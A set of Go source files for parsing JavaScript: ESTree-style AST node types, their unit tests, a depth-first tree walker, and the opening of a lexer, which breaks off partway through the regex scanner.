	Init Expression // may be nil
}

// Type implements Node.
func (*VariableDeclarator) Type() string { return "VariableDeclarator" }

// Children implements Node.
func (d *VariableDeclarator) Children() []Node {
	if d.Init == nil {
		return []Node{d.ID}
	}
	return []Node{d.ID, d.Init}
}

// FunctionDeclaration declares a named function.
type FunctionDeclaration struct {
	ID     *Identifier
	Params []*Identifier
	Body   *BlockStatement
}

// Type implements Node.
func (*FunctionDeclaration) Type() string { return "FunctionDeclaration" }

// Children implements Node.
func (s *FunctionDeclaration) Children() []Node {
	out := make([]Node, 0, len(s.Params)+2)
	out = append(out, s.ID)
	for _, p := range s.Params {
		out = append(out, p)
	}
	return append(out, s.Body)
}

// ReturnStatement returns from a function.
type ReturnStatement struct {
	Argument Expression // may be nil
}

// Type implements Node.
func (*ReturnStatement) Type() string { return "ReturnStatement" }

// Children implements Node.
func (s *ReturnStatement) Children() []Node {
	if s.Argument == nil {
		return nil
	}
	return []Node{s.Argument}
}

// IfStatement is a conditional with optional else branch.
type IfStatement struct {
	Test       Expression
	Consequent Statement
	Alternate  Statement // may be nil
}

// Type implements Node.
func (*IfStatement) Type() string { return "IfStatement" }

// Children implements Node.
func (s *IfStatement) Children() []Node {
	out := []Node{s.Test, s.Consequent}
	if s.Alternate != nil {
		out = append(out, s.Alternate)
	}
	return out
}

// ForStatement is a C-style for loop; any of Init/Test/Update may be nil.
type ForStatement struct {
	Init   Node // *VariableDeclaration or Expression, may be nil
	Test   Expression
	Update Expression
	Body   Statement
}

// Type implements Node.
func (*ForStatement) Type() string { return "ForStatement" }

// Children implements Node.
func (s *ForStatement) Children() []Node {
	out := make([]Node, 0, 4)
	if s.Init != nil {
		out = append(out, s.Init)
	}
	if s.Test != nil {
		out = append(out, s.Test)
	}
	if s.Update != nil {
		out = append(out, s.Update)
	}
	return append(out, s.Body)
}

// ForInStatement is `for (x in obj) body`.
type ForInStatement struct {
	Left  Node // *VariableDeclaration or Pattern
	Right Expression
	Body  Statement
}

// Type implements Node.
func (*ForInStatement) Type() string { return "ForInStatement" }

// Children implements Node.
func (s *ForInStatement) Children() []Node { return []Node{s.Left, s.Right, s.Body} }

// WhileStatement is a pre-tested loop.
type WhileStatement struct {
	Test Expression
	Body Statement
}

// Type implements Node.
func (*WhileStatement) Type() string { return "WhileStatement" }

// Children implements Node.
func (s *WhileStatement) Children() []Node { return []Node{s.Test, s.Body} }

// DoWhileStatement is a post-tested loop.
type DoWhileStatement struct {
	Body Statement
	Test Expression
}

// Type implements Node.
func (*DoWhileStatement) Type() string { return "DoWhileStatement" }

// Children implements Node.
func (s *DoWhileStatement) Children() []Node { return []Node{s.Body, s.Test} }

// BreakStatement exits a loop or switch; Label may be nil.
type BreakStatement struct {
	Label *Identifier
}

// Type implements Node.
func (*BreakStatement) Type() string { return "BreakStatement" }

// Children implements Node.
func (s *BreakStatement) Children() []Node {
	if s.Label == nil {
		return nil
	}
	return []Node{s.Label}
}

// ContinueStatement skips to the next loop iteration; Label may be nil.
type ContinueStatement struct {
	Label *Identifier
}

// Type implements Node.
func (*ContinueStatement) Type() string { return "ContinueStatement" }

// Children implements Node.
func (s *ContinueStatement) Children() []Node {
	if s.Label == nil {
		return nil
	}
	return []Node{s.Label}
}

// LabeledStatement attaches a label to a statement.
type LabeledStatement struct {
	Label *Identifier
	Body  Statement
}

// Type implements Node.
func (*LabeledStatement) Type() string { return "LabeledStatement" }

// Children implements Node.
func (s *LabeledStatement) Children() []Node { return []Node{s.Label, s.Body} }

// SwitchStatement dispatches on a discriminant expression.
type SwitchStatement struct {
	Discriminant Expression
	Cases        []*SwitchCase
}

// Type implements Node.
func (*SwitchStatement) Type() string { return "SwitchStatement" }

// Children implements Node.
func (s *SwitchStatement) Children() []Node {
	out := make([]Node, 0, len(s.Cases)+1)
	out = append(out, s.Discriminant)
	for _, c := range s.Cases {
		out = append(out, c)
	}
	return out
}

// SwitchCase is one `case test:` (or `default:` when Test is nil) clause.
type SwitchCase struct {
	Test       Expression // nil for default
	Consequent []Statement
}

// Type implements Node.
func (*SwitchCase) Type() string { return "SwitchCase" }

// Children implements Node.
func (c *SwitchCase) Children() []Node {
	out := make([]Node, 0, len(c.Consequent)+1)
	if c.Test != nil {
		out = append(out, c.Test)
	}
	for _, s := range c.Consequent {
		out = append(out, s)
	}
	return out
}

// ThrowStatement raises an exception.
type ThrowStatement struct {
	Argument Expression
}

// Type implements Node.
func (*ThrowStatement) Type() string { return "ThrowStatement" }

// Children implements Node.
func (s *ThrowStatement) Children() []Node { return []Node{s.Argument} }

// TryStatement is try/catch/finally; Handler and Finalizer may each be nil.
type TryStatement struct {
	Block     *BlockStatement
	Handler   *CatchClause
	Finalizer *BlockStatement
}

// Type implements Node.
func (*TryStatement) Type() string { return "TryStatement" }

// Children implements Node.
func (s *TryStatement) Children() []Node {
	out := []Node{s.Block}
	if s.Handler != nil {
		out = append(out, s.Handler)
	}
	if s.Finalizer != nil {
		out = append(out, s.Finalizer)
	}
	return out
}

// CatchClause is the `catch (param) { ... }` part of a try statement.
type CatchClause struct {
	Param *Identifier
	Body  *BlockStatement
}

// Type implements Node.
func (*CatchClause) Type() string { return "CatchClause" }

// Children implements Node.
func (c *CatchClause) Children() []Node { return []Node{c.Param, c.Body} }

// WithStatement is the (deprecated but common in malware) with statement.
type WithStatement struct {
	Object Expression
	Body   Statement
}

// Type implements Node.
func (*WithStatement) Type() string { return "WithStatement" }

// Children implements Node.
func (s *WithStatement) Children() []Node { return []Node{s.Object, s.Body} }

// ---------------------------------------------------------------------------
// Expressions
// ---------------------------------------------------------------------------

// Identifier is a name reference or binding occurrence.
type Identifier struct {
	Name string
}

// Type implements Node.
func (*Identifier) Type() string { return "Identifier" }

// Children implements Node.
func (*Identifier) Children() []Node { return nil }

// LiteralKind discriminates the runtime type of a Literal.
type LiteralKind int

// Literal kinds, starting at one so the zero value is invalid.
const (
	LiteralString LiteralKind = iota + 1
	LiteralNumber
	LiteralBool
	LiteralNull
	LiteralRegExp
)

// Literal is a primitive literal value.
type Literal struct {
	Kind    LiteralKind
	StrVal  string  // for LiteralString and LiteralRegExp (raw pattern+flags)
	NumVal  float64 // for LiteralNumber
	BoolVal bool    // for LiteralBool
	Raw     string  // original source text, used by the printer when set
}

// Type implements Node.
func (*Literal) Type() string { return "Literal" }

// Children implements Node.
func (*Literal) Children() []Node { return nil }

// Value returns a printable representation of the literal's value.
func (l *Literal) Value() string {
	switch l.Kind {
	case LiteralString:
		return l.StrVal
	case LiteralNumber:
		return trimFloat(l.NumVal)
	case LiteralBool:
		if l.BoolVal {
			return "true"
		}
		return "false"
	case LiteralNull:
		return "null"
	case LiteralRegExp:
		return l.StrVal
	default:
		return ""
	}
}

// ThisExpression is the `this` keyword.
type ThisExpression struct{}

// Type implements Node.
func (*ThisExpression) Type() string { return "ThisExpression" }

// Children implements Node.
func (*ThisExpression) Children() []Node { return nil }

// ArrayExpression is an array literal. Elements may contain nil holes.
type ArrayExpression struct {
	Elements []Expression
}

// Type implements Node.
func (*ArrayExpression) Type() string { return "ArrayExpression" }

// Children implements Node.
func (e *ArrayExpression) Children() []Node {
	out := make([]Node, 0, len(e.Elements))
	for _, el := range e.Elements {
		if el != nil {
			out = append(out, el)
		}
	}
	return out
}

// PropertyKind discriminates init/get/set object properties.
type PropertyKind int

// Property kinds.
const (
	PropertyInit PropertyKind = iota + 1
	PropertyGet
	PropertySet
)

// Property is a single key/value entry of an object literal.
type Property struct {
	Kind     PropertyKind
	Key      Expression // *Identifier or *Literal
	Value    Expression
	Computed bool
}

// Type implements Node.
func (*Property) Type() string { return "Property" }

// Children implements Node.
func (p *Property) Children() []Node { return []Node{p.Key, p.Value} }

// ObjectExpression is an object literal.
type ObjectExpression struct {
	Properties []*Property
}

// Type implements Node.
func (*ObjectExpression) Type() string { return "ObjectExpression" }

// Children implements Node.
func (e *ObjectExpression) Children() []Node {
	out := make([]Node, len(e.Properties))
	for i, p := range e.Properties {
		out[i] = p
	}
	return out
}

// FunctionExpression is an anonymous or named function expression.
type FunctionExpression struct {
	ID     *Identifier // may be nil
	Params []*Identifier
	Body   *BlockStatement
}

// Type implements Node.
func (*FunctionExpression) Type() string { return "FunctionExpression" }

// Children implements Node.
func (e *FunctionExpression) Children() []Node {
	out := make([]Node, 0, len(e.Params)+2)
	if e.ID != nil {
		out = append(out, e.ID)
	}
	for _, p := range e.Params {
		out = append(out, p)
	}
	return append(out, e.Body)
}

// UnaryExpression is a prefix operator application (`typeof x`, `-x`, ...).
type UnaryExpression struct {
	Operator string
	Argument Expression
}

// Type implements Node.
func (*UnaryExpression) Type() string { return "UnaryExpression" }

// Children implements Node.
func (e *UnaryExpression) Children() []Node { return []Node{e.Argument} }

// UpdateExpression is `++x`, `x++`, `--x`, or `x--`.
type UpdateExpression struct {
	Operator string // "++" or "--"
	Argument Expression
	Prefix   bool
}

// Type implements Node.
func (*UpdateExpression) Type() string { return "UpdateExpression" }

// Children implements Node.
func (e *UpdateExpression) Children() []Node { return []Node{e.Argument} }

// BinaryExpression is a non-logical binary operator application.
type BinaryExpression struct {
	Operator string
	Left     Expression
	Right    Expression
}

// Type implements Node.
func (*BinaryExpression) Type() string { return "BinaryExpression" }

// Children implements Node.
func (e *BinaryExpression) Children() []Node { return []Node{e.Left, e.Right} }

// LogicalExpression is `&&` or `||`.
type LogicalExpression struct {
	Operator string // "&&" or "||"
	Left     Expression
	Right    Expression
}

// Type implements Node.
func (*LogicalExpression) Type() string { return "LogicalExpression" }

// Children implements Node.
func (e *LogicalExpression) Children() []Node { return []Node{e.Left, e.Right} }

// AssignmentExpression is `target op value` where op includes compound forms.
type AssignmentExpression struct {
	Operator string // "=", "+=", "-=", ...
	Left     Expression
	Right    Expression
}

// Type implements Node.
func (*AssignmentExpression) Type() string { return "AssignmentExpression" }

// Children implements Node.
func (e *AssignmentExpression) Children() []Node { return []Node{e.Left, e.Right} }

// ConditionalExpression is the ternary `test ? a : b`.
type ConditionalExpression struct {
	Test       Expression
	Consequent Expression
	Alternate  Expression
}

// Type implements Node.
func (*ConditionalExpression) Type() string { return "ConditionalExpression" }

// Children implements Node.
func (e *ConditionalExpression) Children() []Node {
	return []Node{e.Test, e.Consequent, e.Alternate}
}

// CallExpression is a function or method call.
type CallExpression struct {
	Callee    Expression
	Arguments []Expression
}

// Type implements Node.
func (*CallExpression) Type() string { return "CallExpression" }

// Children implements Node.
func (e *CallExpression) Children() []Node {
	out := make([]Node, 0, len(e.Arguments)+1)
	out = append(out, e.Callee)
	for _, a := range e.Arguments {
		out = append(out, a)
	}
	return out
}

// NewExpression is `new Callee(args)`.
type NewExpression struct {
	Callee    Expression
	Arguments []Expression
}

// Type implements Node.
func (*NewExpression) Type() string { return "NewExpression" }

// Children implements Node.
func (e *NewExpression) Children() []Node {
	out := make([]Node, 0, len(e.Arguments)+1)
	out = append(out, e.Callee)
	for _, a := range e.Arguments {
		out = append(out, a)
	}
	return out
}

// MemberExpression is `obj.prop` (Computed=false) or `obj[expr]` (true).
type MemberExpression struct {
	Object   Expression
	Property Expression
	Computed bool
}

// Type implements Node.
func (*MemberExpression) Type() string { return "MemberExpression" }

// Children implements Node.
func (e *MemberExpression) Children() []Node { return []Node{e.Object, e.Property} }

// SequenceExpression is the comma operator `a, b, c`.
type SequenceExpression struct {
	Expressions []Expression
}

// Type implements Node.
func (*SequenceExpression) Type() string { return "SequenceExpression" }

// Children implements Node.
func (e *SequenceExpression) Children() []Node {
	out := make([]Node, len(e.Expressions))
	for i, x := range e.Expressions {
		out[i] = x
	}
	return out
}

// ---------------------------------------------------------------------------
// Interface conformance markers
// ---------------------------------------------------------------------------

func (*ExpressionStatement) stmtNode() {}
func (*BlockStatement) stmtNode()      {}
func (*EmptyStatement) stmtNode()      {}
func (*DebuggerStatement) stmtNode()   {}
func (*VariableDeclaration) stmtNode() {}
func (*FunctionDeclaration) stmtNode() {}
func (*ReturnStatement) stmtNode()     {}
func (*IfStatement) stmtNode()         {}
func (*ForStatement) stmtNode()        {}
func (*ForInStatement) stmtNode()      {}
func (*WhileStatement) stmtNode()      {}
func (*DoWhileStatement) stmtNode()    {}
func (*BreakStatement) stmtNode()      {}
func (*ContinueStatement) stmtNode()   {}
func (*LabeledStatement) stmtNode()    {}
func (*SwitchStatement) stmtNode()     {}
func (*ThrowStatement) stmtNode()      {}
func (*TryStatement) stmtNode()        {}
func (*WithStatement) stmtNode()       {}

func (*Identifier) exprNode()            {}
func (*Literal) exprNode()               {}
func (*ThisExpression) exprNode()        {}
func (*ArrayExpression) exprNode()       {}
func (*ObjectExpression) exprNode()      {}
func (*FunctionExpression) exprNode()    {}
func (*UnaryExpression) exprNode()       {}
func (*UpdateExpression) exprNode()      {}
func (*BinaryExpression) exprNode()      {}
func (*LogicalExpression) exprNode()     {}
func (*AssignmentExpression) exprNode()  {}
func (*ConditionalExpression) exprNode() {}
func (*CallExpression) exprNode()        {}
func (*NewExpression) exprNode()         {}
func (*MemberExpression) exprNode()      {}
func (*SequenceExpression) exprNode()    {}

func (*Identifier) patternNode()       {}
func (*MemberExpression) patternNode() {}

// Compile-time interface checks for representative nodes.
var (
	_ Node       = (*Program)(nil)
	_ Statement  = (*IfStatement)(nil)
	_ Expression = (*CallExpression)(nil)
	_ Pattern    = (*Identifier)(nil)
)

func stmtsToNodes(stmts []Statement) []Node {
	out := make([]Node, len(stmts))
	for i, s := range stmts {
		out[i] = s
	}
	return out
}

// trimFloat renders a float without a trailing ".0" when it is integral.
func trimFloat(f float64) string {
	if f == float64(int64(f)) {
		return fmt.Sprintf("%d", int64(f))
	}
	return fmt.Sprintf("%g", f)
}
