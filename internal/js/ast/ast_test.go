package ast

import "testing"

// tinyProgram builds: function add(a, b) { if (a) { return a + b; } return b; }
func tinyProgram() *Program {
	return &Program{Body: []Statement{
		&FunctionDeclaration{
			ID:     &Identifier{Name: "add"},
			Params: []*Identifier{{Name: "a"}, {Name: "b"}},
			Body: &BlockStatement{Body: []Statement{
				&IfStatement{
					Test: &Identifier{Name: "a"},
					Consequent: &BlockStatement{Body: []Statement{
						&ReturnStatement{Argument: &BinaryExpression{
							Operator: "+",
							Left:     &Identifier{Name: "a"},
							Right:    &Identifier{Name: "b"},
						}},
					}},
				},
				&ReturnStatement{Argument: &Identifier{Name: "b"}},
			}},
		},
	}}
}

func TestTypeNamesMatchESTree(t *testing.T) {
	cases := map[Node]string{
		&Program{}:               "Program",
		&ExpressionStatement{}:   "ExpressionStatement",
		&BlockStatement{}:        "BlockStatement",
		&EmptyStatement{}:        "EmptyStatement",
		&DebuggerStatement{}:     "DebuggerStatement",
		&VariableDeclaration{}:   "VariableDeclaration",
		&VariableDeclarator{}:    "VariableDeclarator",
		&FunctionDeclaration{}:   "FunctionDeclaration",
		&ReturnStatement{}:       "ReturnStatement",
		&IfStatement{}:           "IfStatement",
		&ForStatement{}:          "ForStatement",
		&ForInStatement{}:        "ForInStatement",
		&WhileStatement{}:        "WhileStatement",
		&DoWhileStatement{}:      "DoWhileStatement",
		&BreakStatement{}:        "BreakStatement",
		&ContinueStatement{}:     "ContinueStatement",
		&LabeledStatement{}:      "LabeledStatement",
		&SwitchStatement{}:       "SwitchStatement",
		&SwitchCase{}:            "SwitchCase",
		&ThrowStatement{}:        "ThrowStatement",
		&TryStatement{}:          "TryStatement",
		&CatchClause{}:           "CatchClause",
		&WithStatement{}:         "WithStatement",
		&Identifier{}:            "Identifier",
		&Literal{}:               "Literal",
		&ThisExpression{}:        "ThisExpression",
		&ArrayExpression{}:       "ArrayExpression",
		&ObjectExpression{}:      "ObjectExpression",
		&Property{}:              "Property",
		&FunctionExpression{}:    "FunctionExpression",
		&UnaryExpression{}:       "UnaryExpression",
		&UpdateExpression{}:      "UpdateExpression",
		&BinaryExpression{}:      "BinaryExpression",
		&LogicalExpression{}:     "LogicalExpression",
		&AssignmentExpression{}:  "AssignmentExpression",
		&ConditionalExpression{}: "ConditionalExpression",
		&CallExpression{}:        "CallExpression",
		&NewExpression{}:         "NewExpression",
		&MemberExpression{}:      "MemberExpression",
		&SequenceExpression{}:    "SequenceExpression",
	}
	for node, want := range cases {
		if node.Type() != want {
			t.Errorf("Type() = %q, want %q", node.Type(), want)
		}
	}
}

func TestWalkVisitsEveryNode(t *testing.T) {
	prog := tinyProgram()
	var types []string
	Walk(prog, func(n Node) bool {
		types = append(types, n.Type())
		return true
	})
	// Program, FunctionDeclaration, ID, a, b, Block, If, test-a, Block,
	// Return, Binary, a, b, Return, b = 15 nodes.
	if len(types) != 15 {
		t.Fatalf("visited %d nodes, want 15: %v", len(types), types)
	}
	if types[0] != "Program" || types[1] != "FunctionDeclaration" {
		t.Errorf("pre-order violated: %v", types[:2])
	}
}

func TestWalkPrunes(t *testing.T) {
	prog := tinyProgram()
	count := 0
	Walk(prog, func(n Node) bool {
		count++
		// Prune below the function declaration.
		return n.Type() != "FunctionDeclaration"
	})
	if count != 2 {
		t.Errorf("visited %d nodes after pruning, want 2", count)
	}
}

func TestWalkWithParent(t *testing.T) {
	prog := tinyProgram()
	parents := make(map[string]string)
	WalkWithParent(prog, func(n, parent Node) bool {
		if parent != nil {
			parents[n.Type()] = parent.Type()
		}
		return true
	})
	if parents["FunctionDeclaration"] != "Program" {
		t.Errorf("function's parent = %q", parents["FunctionDeclaration"])
	}
	if parents["IfStatement"] != "BlockStatement" {
		t.Errorf("if's parent = %q", parents["IfStatement"])
	}
}

func TestCountAndLeaves(t *testing.T) {
	prog := tinyProgram()
	if got := Count(prog); got != 15 {
		t.Errorf("Count = %d, want 15", got)
	}
	leaves := Leaves(prog)
	// Leaves: add, a, b (params), a (test), a, b (binary), b (return) = 7.
	if len(leaves) != 7 {
		t.Errorf("Leaves = %d, want 7", len(leaves))
	}
	for _, l := range leaves {
		if len(l.Children()) != 0 {
			t.Errorf("leaf %s has children", l.Type())
		}
	}
}

func TestLiteralValue(t *testing.T) {
	cases := map[*Literal]string{
		{Kind: LiteralString, StrVal: "s"}:   "s",
		{Kind: LiteralNumber, NumVal: 42}:    "42",
		{Kind: LiteralNumber, NumVal: 1.5}:   "1.5",
		{Kind: LiteralBool, BoolVal: true}:   "true",
		{Kind: LiteralBool}:                  "false",
		{Kind: LiteralNull}:                  "null",
		{Kind: LiteralRegExp, StrVal: "/a/"}: "/a/",
	}
	for lit, want := range cases {
		if got := lit.Value(); got != want {
			t.Errorf("Value() = %q, want %q", got, want)
		}
	}
}

func TestNilOptionalChildren(t *testing.T) {
	ifs := &IfStatement{
		Test:       &Identifier{Name: "x"},
		Consequent: &EmptyStatement{},
	}
	if len(ifs.Children()) != 2 {
		t.Errorf("if without else: %d children", len(ifs.Children()))
	}
	ret := &ReturnStatement{}
	if len(ret.Children()) != 0 {
		t.Error("bare return should have no children")
	}
	arr := &ArrayExpression{Elements: []Expression{nil, &Identifier{Name: "a"}}}
	if len(arr.Children()) != 1 {
		t.Errorf("array hole should be skipped: %d", len(arr.Children()))
	}
}
