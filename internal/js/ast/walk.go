package ast

// Visitor is called for each node during a Walk. Returning false prunes the
// subtree below the node.
type Visitor func(n Node) bool

// Walk traverses the tree rooted at n in depth-first pre-order, invoking v on
// every node. Nil nodes are skipped.
func Walk(n Node, v Visitor) {
	if n == nil || isNilNode(n) {
		return
	}
	if !v(n) {
		return
	}
	for _, c := range n.Children() {
		Walk(c, v)
	}
}

// WalkWithParent traverses like Walk but also supplies each node's parent
// (nil for the root).
func WalkWithParent(n Node, v func(n, parent Node) bool) {
	walkParent(n, nil, v)
}

func walkParent(n, parent Node, v func(n, parent Node) bool) {
	if n == nil || isNilNode(n) {
		return
	}
	if !v(n, parent) {
		return
	}
	for _, c := range n.Children() {
		walkParent(c, n, v)
	}
}

// Count returns the total number of nodes in the tree rooted at n.
func Count(n Node) int {
	total := 0
	Walk(n, func(Node) bool {
		total++
		return true
	})
	return total
}

// Leaves returns all leaf nodes (nodes with no children) in source order.
func Leaves(n Node) []Node {
	var out []Node
	Walk(n, func(c Node) bool {
		if len(c.Children()) == 0 {
			out = append(out, c)
		}
		return true
	})
	return out
}

// isNilNode reports whether a non-nil interface holds a nil pointer, which
// can happen when optional fields (e.g. IfStatement.Alternate) are stored
// through interface types.
func isNilNode(n Node) bool {
	switch v := n.(type) {
	case *Program:
		return v == nil
	case *Identifier:
		return v == nil
	case *Literal:
		return v == nil
	case *BlockStatement:
		return v == nil
	default:
		return false
	}
}
