package lexer

import (
	"errors"
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// ErrTooManyTokens is wrapped by TokenizeLimit when the input produces more
// tokens than the configured cap, so adversarially large inputs are rejected
// in bounded time instead of exhausting memory.
var ErrTooManyTokens = errors.New("lexer: token limit exceeded")

// SyntaxError describes a lexing failure with its source position.
type SyntaxError struct {
	Msg  string
	Line int
	Col  int
}

// Error implements error.
func (e *SyntaxError) Error() string {
	return fmt.Sprintf("%d:%d: %s", e.Line, e.Col, e.Msg)
}

// Lexer tokenizes a JavaScript source string.
type Lexer struct {
	src  string
	pos  int
	line int
	col  int

	// newlineSeen is set when a line terminator was consumed since the last
	// emitted token.
	newlineSeen bool
	// prev is the previously emitted token, used to decide whether a '/'
	// starts a regular expression or a division operator.
	prev Token
	// havePrev records whether prev is valid.
	havePrev bool
}

// New returns a lexer over src.
func New(src string) *Lexer {
	return &Lexer{src: src, line: 1, col: 1}
}

// Tokenize scans the entire input and returns the token stream, terminated
// by an EOF token.
func Tokenize(src string) ([]Token, error) {
	return TokenizeLimit(src, 0)
}

// TokenizeLimit scans the entire input like Tokenize but fails with an error
// wrapping ErrTooManyTokens once more than maxTokens tokens (excluding the
// final EOF) have been produced. maxTokens <= 0 disables the cap.
func TokenizeLimit(src string, maxTokens int) ([]Token, error) {
	lx := New(src)
	var out []Token
	for {
		tok, err := lx.Next()
		if err != nil {
			return nil, err
		}
		out = append(out, tok)
		if tok.Kind == EOF {
			return out, nil
		}
		if maxTokens > 0 && len(out) > maxTokens {
			return nil, fmt.Errorf("%w (limit %d)", ErrTooManyTokens, maxTokens)
		}
	}
}

// Next returns the next token in the stream.
func (l *Lexer) Next() (Token, error) {
	l.skipSpaceAndComments()
	startLine, startCol := l.line, l.col
	nl := l.newlineSeen
	l.newlineSeen = false

	if l.pos >= len(l.src) {
		tok := Token{Kind: EOF, Line: startLine, Col: startCol, NewlineBefore: nl}
		l.remember(tok)
		return tok, nil
	}

	c := l.src[l.pos]
	var (
		tok Token
		err error
	)
	switch {
	case isIdentStart(rune(c)) && c < utf8.RuneSelf:
		tok = l.scanIdent()
	case c >= utf8.RuneSelf:
		// Decode the full rune: identifier starts proceed, anything else
		// (including invalid UTF-8, which decodes to RuneError without
		// advancing scanIdent) is an error rather than an infinite loop.
		r, _ := utf8.DecodeRuneInString(l.src[l.pos:])
		if r != utf8.RuneError && isIdentStart(r) {
			tok = l.scanIdent()
		} else {
			err = l.errorf("unexpected character %q", r)
		}
	case c >= '0' && c <= '9':
		tok, err = l.scanNumber()
	case c == '.' && l.pos+1 < len(l.src) && isDigit(l.src[l.pos+1]):
		tok, err = l.scanNumber()
	case c == '"' || c == '\'':
		tok, err = l.scanString(c)
	case c == '`':
		tok, err = l.scanTemplate()
	case c == '/':
		if l.regexAllowed() {
			tok, err = l.scanRegex()
		} else {
			tok = l.scanPunct()
		}
	default:
		tok = l.scanPunct()
		if tok.Literal == "" {
			err = l.errorf("unexpected character %q", c)
		}
	}
	if err != nil {
		return Token{}, err
	}
	tok.Line, tok.Col = startLine, startCol
	tok.NewlineBefore = nl
	l.remember(tok)
	return tok, nil
}

func (l *Lexer) remember(tok Token) {
	l.prev = tok
	l.havePrev = true
}

func (l *Lexer) errorf(format string, args ...any) error {
	return &SyntaxError{Msg: fmt.Sprintf(format, args...), Line: l.line, Col: l.col}
}

// regexAllowed reports whether a '/' at the current position begins a regex
// literal rather than a division operator, based on the previous token.
func (l *Lexer) regexAllowed() bool {
	if !l.havePrev {
		return true
	}
	switch l.prev.Kind {
	case Ident, Number, String, Template, Regex:
		return false
	case Keyword:
		// `this` behaves like a value; every other keyword can precede a regex
		// (e.g. `return /x/`, `typeof /x/`).
		return l.prev.Literal != "this" && l.prev.Literal != "null" &&
			l.prev.Literal != "true" && l.prev.Literal != "false"
	case Punct:
		switch l.prev.Literal {
		case ")", "]", "}", "++", "--":
			return false
		}
		return true
	default:
		return true
	}
}

func (l *Lexer) advance(n int) {
	for i := 0; i < n && l.pos < len(l.src); i++ {
		if l.src[l.pos] == '\n' {
			l.line++
			l.col = 1
		} else {
			l.col++
		}
		l.pos++
	}
}

func (l *Lexer) skipSpaceAndComments() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\r' || c == '\f' || c == '\v':
			l.advance(1)
		case c == '\n':
			l.newlineSeen = true
			l.advance(1)
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '/':
			for l.pos < len(l.src) && l.src[l.pos] != '\n' {
				l.advance(1)
			}
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '*':
			l.advance(2)
			for l.pos < len(l.src) {
				if l.src[l.pos] == '*' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '/' {
					l.advance(2)
					break
				}
				if l.src[l.pos] == '\n' {
					l.newlineSeen = true
				}
				l.advance(1)
			}
		default:
			return
		}
	}
}

func (l *Lexer) scanIdent() Token {
	start := l.pos
	for l.pos < len(l.src) {
		r, size := utf8.DecodeRuneInString(l.src[l.pos:])
		if !isIdentPart(r) {
			break
		}
		l.advance(size)
	}
	text := l.src[start:l.pos]
	kind := Ident
	if IsKeyword(text) {
		kind = Keyword
	}
	return Token{Kind: kind, Literal: text, Raw: text}
}

func (l *Lexer) scanNumber() (Token, error) {
	start := l.pos
	if l.src[l.pos] == '0' && l.pos+1 < len(l.src) &&
		(l.src[l.pos+1] == 'x' || l.src[l.pos+1] == 'X') {
		l.advance(2)
		if l.pos >= len(l.src) || !isHexDigit(l.src[l.pos]) {
			return Token{}, l.errorf("malformed hex literal")
		}
		for l.pos < len(l.src) && isHexDigit(l.src[l.pos]) {
			l.advance(1)
		}
		raw := l.src[start:l.pos]
		return Token{Kind: Number, Literal: raw, Raw: raw}, nil
	}
	for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
		l.advance(1)
	}
	if l.pos < len(l.src) && l.src[l.pos] == '.' {
		l.advance(1)
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.advance(1)
		}
	}
	if l.pos < len(l.src) && (l.src[l.pos] == 'e' || l.src[l.pos] == 'E') {
		l.advance(1)
		if l.pos < len(l.src) && (l.src[l.pos] == '+' || l.src[l.pos] == '-') {
			l.advance(1)
		}
		if l.pos >= len(l.src) || !isDigit(l.src[l.pos]) {
			return Token{}, l.errorf("malformed exponent")
		}
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.advance(1)
		}
	}
	raw := l.src[start:l.pos]
	return Token{Kind: Number, Literal: raw, Raw: raw}, nil
}

func (l *Lexer) scanString(quote byte) (Token, error) {
	start := l.pos
	l.advance(1) // opening quote
	var sb strings.Builder
	for {
		if l.pos >= len(l.src) {
			return Token{}, l.errorf("unterminated string literal")
		}
		c := l.src[l.pos]
		switch c {
		case quote:
			l.advance(1)
			raw := l.src[start:l.pos]
			return Token{Kind: String, Literal: sb.String(), Raw: raw}, nil
		case '\\':
			l.advance(1)
			if l.pos >= len(l.src) {
				return Token{}, l.errorf("unterminated escape")
			}
			decoded, consumed, err := l.decodeEscape()
			if err != nil {
				return Token{}, err
			}
			sb.WriteString(decoded)
			l.advance(consumed)
		case '\n':
			return Token{}, l.errorf("unterminated string literal")
		default:
			sb.WriteByte(c)
			l.advance(1)
		}
	}
}

// decodeEscape decodes the escape sequence at l.pos (after the backslash) and
// returns the decoded text plus how many bytes to consume.
func (l *Lexer) decodeEscape() (string, int, error) {
	c := l.src[l.pos]
	switch c {
	case 'n':
		return "\n", 1, nil
	case 't':
		return "\t", 1, nil
	case 'r':
		return "\r", 1, nil
	case 'b':
		return "\b", 1, nil
	case 'f':
		return "\f", 1, nil
	case 'v':
		return "\v", 1, nil
	case '0':
		return "\x00", 1, nil
	case 'x':
		if l.pos+2 >= len(l.src) {
			return "", 0, l.errorf("malformed \\x escape")
		}
		hi, lo := hexVal(l.src[l.pos+1]), hexVal(l.src[l.pos+2])
		if hi < 0 || lo < 0 {
			return "", 0, l.errorf("malformed \\x escape")
		}
		return string(rune(hi*16 + lo)), 3, nil
	case 'u':
		if l.pos+4 >= len(l.src) {
			return "", 0, l.errorf("malformed \\u escape")
		}
		v := 0
		for i := 1; i <= 4; i++ {
			d := hexVal(l.src[l.pos+i])
			if d < 0 {
				return "", 0, l.errorf("malformed \\u escape")
			}
			v = v*16 + d
		}
		return string(rune(v)), 5, nil
	case '\n':
		// Line continuation.
		return "", 1, nil
	default:
		return string(c), 1, nil
	}
}

func (l *Lexer) scanTemplate() (Token, error) {
	start := l.pos
	l.advance(1) // backtick
	var sb strings.Builder
	for {
		if l.pos >= len(l.src) {
			return Token{}, l.errorf("unterminated template literal")
		}
		c := l.src[l.pos]
		switch c {
		case '`':
			l.advance(1)
			raw := l.src[start:l.pos]
			return Token{Kind: Template, Literal: sb.String(), Raw: raw}, nil
		case '\\':
			l.advance(1)
			if l.pos >= len(l.src) {
				return Token{}, l.errorf("unterminated escape")
			}
			decoded, consumed, err := l.decodeEscape()
			if err != nil {
				return Token{}, err
			}
			sb.WriteString(decoded)
			l.advance(consumed)
		default:
			sb.WriteByte(c)
			l.advance(1)
		}
	}
}

func (l *Lexer) scanRegex() (Token, error) {
	start := l.pos
	l.advance(1) // opening slash
	inClass := false
	for {
